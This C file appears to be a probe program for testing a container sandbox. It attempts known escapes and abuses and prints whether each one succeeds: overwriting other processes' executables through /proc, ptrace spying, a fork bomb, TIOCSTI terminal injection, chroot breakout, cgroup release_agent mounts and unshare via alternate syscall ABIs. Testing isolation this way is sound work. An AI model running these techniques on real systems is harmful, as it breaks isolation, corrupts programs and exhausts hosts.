/* The program that is sent into the containers: each argument word is something to try, each answer a line on standard
 * output, "what it was: how it went". Static, since the root that it gets holds no library. Several verbs may be
 * given in one run, each followed by its arguments and separated by "--". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static const char *name_of(long r)
{
    return r >= 0 ? "OK" : strerrorname_np(errno);
}

static void say(const char *what, long r)
{
    printf("%s: %s\n", what, name_of(r));
}

/* ---- descriptors and files -------------------------------------------------------------------------------------- */

static void list_fds(const char *directory)
{
    DIR *d = opendir(directory);
    struct dirent *e;
    char link[4096];

    if (!d) {
        say("fds", -1);
        return;
    }
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || (strcmp(directory, "/proc/self/fd") == 0 && atoi(e->d_name) == dirfd(d)))
            continue;
        ssize_t n = readlinkat(dirfd(d), e->d_name, link, sizeof(link) - 1);
        link[n < 0 ? 0 : n] = '\0';
        printf("fd %s %s\n", e->d_name, link);
    }
    closedir(d);
}

static void list(const char *path)
{
    DIR *d = opendir(path);
    struct dirent *e;

    if (!d) {
        printf("ls %s: %s\n", path, name_of(-1));
        return;
    }
    while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0)
            printf("ls %s: %s\n", path, e->d_name);
    closedir(d);
}

static void cat(const char *path)
{
    char text[8192];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t n = fd >= 0 ? read(fd, text, sizeof(text) - 1) : -1;

    if (n < 0) {
        printf("cat %s: %s\n", path, name_of(-1));
        return;
    }
    text[n] = '\0';
    while (n > 0 && text[n - 1] == '\n')
        text[--n] = '\0';
    printf("cat %s: [%s]\n", path, text);
    close(fd);
}

static void write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);

    printf("write %s: %s\n", path, name_of(fd < 0 ? -1 : write(fd, text, strlen(text))));
    if (fd >= 0)
        close(fd);
}

static void stat_path(const char *path)
{
    struct stat st;

    if (lstat(path, &st) < 0)
        printf("stat %s: %s\n", path, name_of(-1));
    else
        printf("stat %s: %o %u:%u\n", path, st.st_mode & S_IFMT, major(st.st_rdev), minor(st.st_rdev));
}

static void link_path(const char *path)
{
    char text[4096];
    ssize_t n = readlink(path, text, sizeof(text) - 1);

    text[n < 0 ? 0 : n] = '\0';
    printf("link %s: %s\n", path, n < 0 ? name_of(-1) : text);
}

static void show_mounts(const char *source)
{
    char line[4096];
    FILE *f = fopen("/proc/self/mountinfo", "r");

    while (f && fgets(line, sizeof(line), f)) {
        char at[1024] = "", *dash = strstr(line, " - "), from[256] = "";
        if (dash && sscanf(line, "%*s %*s %*s %*s %1023s", at) == 1 && sscanf(dash, " - %*s %255s", from) == 1 &&
            strcmp(from, source) == 0)
            printf("mount %s: %s\n", source, at);
    }
    if (f)
        fclose(f);
}

/* ---- another process's program ---------------------------------------------------------------------------------- */

/* Every way to get the file behind /proc/PID/exe open for writing. */
static void write_exe(const char *pid)
{
    static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND};
    char path[96], again[64];
    int wrote = 0;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    link_path(path);
    for (unsigned i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
        int fd = open(path, flags[i]);
        wrote |= fd >= 0 && write(fd, "#!/evil\n", 8) > 0;
    }
    int fd = open(path, O_RDONLY), opath = open(path, O_PATH);
    for (int i = 0; i < 2; i++) {
        snprintf(again, sizeof(again), "/proc/self/fd/%d", i ? fd : opath);
        int rw = open(again, O_RDWR);
        wrote |= rw >= 0 && write(rw, "#!/evil\n", 8) > 0;
    }
    printf("exe %s read: %s\n", pid, fd >= 0 ? "OK" : "no");
    printf("exe %s: %s\n", pid, wrote ? "WRITTEN" : "untouched");
}

/* Keeps the program of a process open over its end, when the kernel no longer says ETXTBSY, and writes then. */
static void write_exe_later(const char *pid)
{
    char path[96];
    int wrote = 0;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY);
    printf("later %s: %s\n", pid, name_of(fd));
    fflush(stdout);
    if (fd < 0)
        return;
    snprintf(path, sizeof(path), "/proc/%s", pid);
    for (int i = 0; i < 5000 && access(path, F_OK) == 0; i++)
        usleep(1000);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200 && !wrote; i++) { /* the exec of the last process that runs it may take a moment to go */
        int rw = open(path, O_RDWR);
        wrote = rw >= 0 && write(rw, "#!/evil\n", 8) > 0;
        if (rw >= 0)
            close(rw);
        usleep(1000);
    }
    printf("later %s: %s\n", pid, wrote ? "WRITTEN" : "untouched");
}

static void each_exe(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    char path[64], link[4096];

    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof(path), "/proc/%.20s/exe", e->d_name);
        ssize_t n = readlink(path, link, sizeof(link) - 1);
        link[n < 0 ? 0 : n] = '\0';
        if (strstr(link, "libbox"))
            write_exe(e->d_name);
    }
    if (d)
        closedir(d);
    puts("each exe: done");
}

/* ---- spying on a process ------------------------------------------------------------------------------------------ */

static void spy(const char *pid)
{
    char path[96], link[256];

    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    DIR *d = opendir(path);
    printf("spy fds %s: %s\n", pid, d ? "OK" : name_of(-1));
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            struct stat st;
            ssize_t n = readlinkat(dirfd(d), e->d_name, link, sizeof(link) - 1);
            if (n < 0)
                continue;
            link[n] = '\0';
            int file = fstatat(dirfd(d), e->d_name, &st, 0) == 0;
            printf("spy fd %s: %s%s\n", e->d_name, link, file && S_ISDIR(st.st_mode) ? " DIRECTORY" : "");
        }
        closedir(d);
    }
    snprintf(path, sizeof(path), "/proc/%s/mem", pid);
    printf("spy mem %s: %s\n", pid, name_of(open(path, O_RDWR)));
    snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
    printf("spy cwd %s: %s\n", pid, name_of(readlink(path, link, sizeof(link))));
    long r = ptrace(PTRACE_SEIZE, atoi(pid), 0, 0);
    printf("spy trace %s: %s\n", pid, name_of(r));
    if (r == 0) { /* let it go: who is traced when it dies cannot be reaped by its parent */
        ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
        waitpid(atoi(pid), NULL, __WALL);
        ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
    }
    fflush(stdout);
}

static unsigned long long caps_of(const char *pid, const char *field)
{
    char path[64], line[256];
    unsigned long long caps = 0;

    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof(line), f))
        if (strncmp(line, field, strlen(field)) == 0)
            sscanf(line + strlen(field) + 1, "%llx", &caps);
    if (f)
        fclose(f);
    return caps;
}

/* Waits on lines of standard input, each a pid to spy upon. Until end of file. */
static void spy_loop(void)
{
    char line[64];

    puts("spying");
    fflush(stdout);
    while (fgets(line, sizeof(line), stdin)) {
        line[strcspn(line, "\n")] = '\0';
        if (line[0] == 'X')
            write_exe_later(line + 1);
        else
            spy(line);
        puts("spied");
        fflush(stdout);
    }
}

/* Looks at each new process as fast as it can, for as long as its standard input is open. */
static void hunt(void)
{
    int last = getpid(), traced = 0, directories = 0;
    char path[64], link[256];
    struct stat st;

    fcntl(0, F_SETFL, O_NONBLOCK);
    puts("hunting");
    fflush(stdout);
    for (char c; read(0, &c, 1) != 0;) {
        for (int pid = last + 1; pid < last + 8; pid++) {
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            for (int fd = 0; fd < 40; fd++) {
                snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
                if (stat(path, &st) == 0 && S_ISDIR(st.st_mode) && readlink(path, link, sizeof(link)) > 0)
                    directories++;
            }
            if (kill(pid, 0) == 0) {
                snprintf(path, sizeof(path), "/proc/%d/exe", pid);
                ssize_t n = readlink(path, link, sizeof(link) - 1);
                link[n < 0 ? 0 : n] = '\0';
                if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                    traced += strstr(link, "libbox-stage") != NULL;
                    ptrace(PTRACE_INTERRUPT, pid, 0, 0); /* only who has stopped can be let go */
                    waitpid(pid, NULL, __WALL);
                    ptrace(PTRACE_DETACH, pid, 0, 0);
                }
                last = pid > last + 3 ? pid - 3 : last;
            }
        }
    }
    printf("hunt directories: %d\nhunt traced: %d\n", directories, traced);
}

/* As many processes as there may be, each of which makes more when others are gone. */
static void multiply(void)
{
    for (;;)
        if (fork() < 0)
            usleep(100);
}

/* Leaves for namespaces of its own, where it is all-powerful, and stays there. */
static void leave(void)
{
    say("leave", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    fflush(stdout);
    for (;;)
        pause();
}

/* ---- system calls that nobody in a container has business with ---------------------------------------------------- */

static void try_calls(void)
{
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    int fd = open("/", O_RDONLY | O_DIRECTORY), ns = open("/proc/self/ns/user", O_RDONLY);
    long r;

    r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (r == 0)
        _exit(0);
    say("clone", r);
    r = syscall(SYS_clone3, &args, sizeof(args));
    if (r == 0)
        _exit(0);
    say("clone3", r);
    say("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    say("fsconfig", syscall(SYS_fsconfig, fd, 0, "a", 0, 0));
    say("fsmount", syscall(SYS_fsmount, fd, 0, 0));
    say("fspick", syscall(SYS_fspick, fd, "", 0));
    say("open_tree", syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1));
    say("move_mount", syscall(SYS_move_mount, fd, "", fd, "", 4));
    say("mount_setattr", syscall(SYS_mount_setattr, fd, "", 0, NULL, 0));
    say("mount", mount("tmpfs", "/tmp", "tmpfs", 0, NULL));
    say("umount", umount2("/proc", MNT_DETACH));
    say("pivot_root", syscall(SYS_pivot_root, ".", "."));
    say("setns", setns(ns, CLONE_NEWUSER));
    say("bpf", syscall(SYS_bpf, 0, NULL, 0));
    say("keyctl", syscall(SYS_keyctl, 0, 0, 0, 0, 0));
    say("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
    say("userfaultfd", syscall(SYS_userfaultfd, 0));
    say("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
    say("open_by_handle_at", syscall(SYS_open_by_handle_at, fd, NULL, 0));
    say("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    say("init_module", syscall(SYS_init_module, NULL, 0, ""));
    say("io_uring_setup", syscall(SYS_io_uring_setup, 0, NULL));
    say("personality", syscall(SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */));
#ifdef __x86_64__
    say("unshare x32", syscall(0x40000000 + SYS_unshare, CLONE_NEWUSER));
    int result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(310 /* unshare */), "b"(CLONE_NEWUSER) : "memory", "r8", "r9", "r10", "r11");
    errno = result < 0 ? -result : 0;
    say("unshare i386", result);
#endif
    /* Last: when they succeed, the process is another. */
    say("unshare user mount", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    say("unshare user", unshare(CLONE_NEWUSER));
}

static void try_terminal(void)
{
    char c = 'x';

    printf("terminal 0: %s\n", isatty(0) ? "yes" : "no");
    say("tiocsti", ioctl(0, TIOCSTI, &c));
    say("dev tty", open("/dev/tty", O_RDWR));
    say("tcgetpgrp", tcgetpgrp(0));
    setsid();
    say("tiocsctty", ioctl(0, TIOCSCTTY, 0));
    say("tiocsti again", ioctl(0, TIOCSTI, &c));
    printf("same group: %s\n", getpgrp() == getpid() ? "no" : "yes");
}

/* ---- ways out ------------------------------------------------------------------------------------------------------ */

static void escape(const char *marker)
{
    struct stat root, above;
    char up[300] = "";
    int fd = open("/", O_RDONLY | O_DIRECTORY);

    stat("/", &root);
    stat("/..", &above);
    printf("above: %s\n", root.st_ino == above.st_ino && root.st_dev == above.st_dev ? "same" : "OTHER");
    say("marker", open(marker, O_RDONLY));
    /* the classic: a root deeper than the working directory */
    mkdir("/tmp/deep", 0755);
    say("chroot", chroot("/tmp/deep"));
    if (fchdir(fd) < 0)
        say("fchdir", -1);
    for (int i = 0; i < 64; i++)
        strcat(up, "../");
    if (chdir(up) < 0 || chroot(".") < 0)
        say("chroot .", -1);
    say("payload", access("/bin/payload", F_OK));
    say("marker from above", open(marker, O_RDONLY));
    /* with the right to it: take away what lies on top */
    for (int i = 0; i < 4; i++) {
        umount2("/proc", MNT_DETACH);
        umount2("/", MNT_DETACH);
        umount2(".", MNT_DETACH);
        if (chdir("/") < 0 || chdir("..") < 0)
            break;
    }
    say("marker from below", open(marker, O_RDONLY));
    say("payload still", access("/bin/payload", F_OK));
}

static void show_identity(void)
{
    uid_t r, e, s;
    gid_t groups[64];

    getresuid(&r, &e, &s);
    printf("uid: %u %u %u\n", r, e, s);
    printf("gid: %u\n", getgid());
    int n = getgroups(64, groups);
    printf("groups:");
    for (int i = 0; i < n; i++)
        printf(" %u", groups[i]);
    printf("\n");
    printf("home: %s\n", getenv("HOME") ? getenv("HOME") : "");
    printf("effective: %llx\n", caps_of("self", "CapEff"));
    printf("bounding: %llx\n", caps_of("self", "CapBnd"));
}

/* ---- cgroups --------------------------------------------------------------------------------------------------------- */

static void try_cgroups(void)
{
    static const char *const types[] = {"cgroup", "cgroup2"};
    static const char *const data[] = {"memory", "rdma", "devices", "none,name=evil", "release_agent=/evil,none,name=evil2", NULL};
    char path[512];

    mkdir("/tmp/cg", 0755);
    for (int t = 0; t < 2; t++) {
        int mounted = 0;
        for (int i = 0; data[i] && (t == 0 || i == 0); i++)
            mounted |= mount("cgroup", "/tmp/cg", types[t], 0, t ? NULL : data[i]) == 0;
        printf("mount %s: %s\n", types[t], mounted ? "MOUNTED" : name_of(-1));
    }
    DIR *d = opendir("/sys/fs/cgroup");
    struct dirent *e;
    int made = 0, agent = 0, seen = 0;
    while (d && (e = readdir(d))) {
        if (strcmp(e->d_name, "..") == 0)
            continue;
        snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/evil", e->d_name);
        seen++;
        if (mkdir(path, 0755) == 0) {
            made++;
            rmdir(path);
        }
        snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/release_agent", e->d_name);
        agent += open(path, O_WRONLY) >= 0;
        snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/notify_on_release", e->d_name);
        agent += open(path, O_WRONLY) >= 0;
        snprintf(path, sizeof(path), "/sys/fs/cgroup/%s/cgroup.procs", e->d_name);
        agent += open(path, O_WRONLY) >= 0;
    }
    printf("cgroup entries: %s\n", seen > 1 ? "some" : "none");
    printf("cgroup made: %d\n", made);
    printf("cgroup writable: %d\n", agent);
    FILE *f = fopen("/proc/self/cgroup", "r");
    int outside = 0, lines = 0;
    while (f && fgets(path, sizeof(path), f)) {
        char *colon = strrchr(path, ':');
        lines++;
        outside += colon && strcmp(colon, ":/\n") != 0;
    }
    printf("cgroup paths: %s\n", lines && !outside ? "own" : "OTHERS");
    printf("sys admin: %s\n", caps_of("self", "CapEff") & (1ull << 21) ? "YES" : "no");
}

/* ---------------------------------------------------------------------------------------------------------------------- */

static const char *arg(char **a, int n)
{
    for (int i = 0; i <= n; i++)
        if (!a[i] || strcmp(a[i], "--") == 0)
            return "";
    return a[n];
}

static void act(char **a)
{
    static const struct {
        const char *verb;
        void (*none)(void);
        void (*one)(const char *);
    } verbs[] = {{"fds", NULL, NULL},         {"ls", NULL, list},           {"cat", NULL, cat},
                 {"stat", NULL, stat_path},   {"link", NULL, link_path},    {"mounts", NULL, show_mounts},
                 {"write-exe", NULL, write_exe}, {"each-exe", each_exe, NULL}, {"spy", spy_loop, NULL},
                 {"hunt", hunt, NULL},        {"leave", leave, NULL},      {"multiply", multiply, NULL},      {"calls", try_calls, NULL},   {"terminal", try_terminal, NULL},
                 {"escape", NULL, escape},    {"id", show_identity, NULL},  {"cgroups", try_cgroups, NULL}};

    if (strcmp(a[0], "fds") == 0)
        list_fds("/proc/self/fd");
    else if (strcmp(a[0], "write") == 0)
        write_file(arg(a, 1), arg(a, 2));
    else if (strcmp(a[0], "caps") == 0)
        printf("caps of %s: %llx\n", arg(a, 1), caps_of(arg(a, 1), "CapEff"));
    else if (strcmp(a[0], "sleep") == 0)
        for (;;)
            pause();
    else
        for (unsigned i = 1; i < sizeof(verbs) / sizeof(verbs[0]); i++)
            if (strcmp(a[0], verbs[i].verb) == 0) {
                if (verbs[i].none)
                    verbs[i].none();
                else
                    verbs[i].one(arg(a, 1));
            }
    fflush(stdout);
}

int main(int argc, char **argv)
{
    (void)argc;
    setvbuf(stdout, NULL, _IOFBF, 65536);
    for (char **a = argv + 1; *a;) {
        act(a);
        while (*a && strcmp(*a, "--") != 0)
            a++;
        a += *a ? 1 : 0;
    }
    return 0;
}
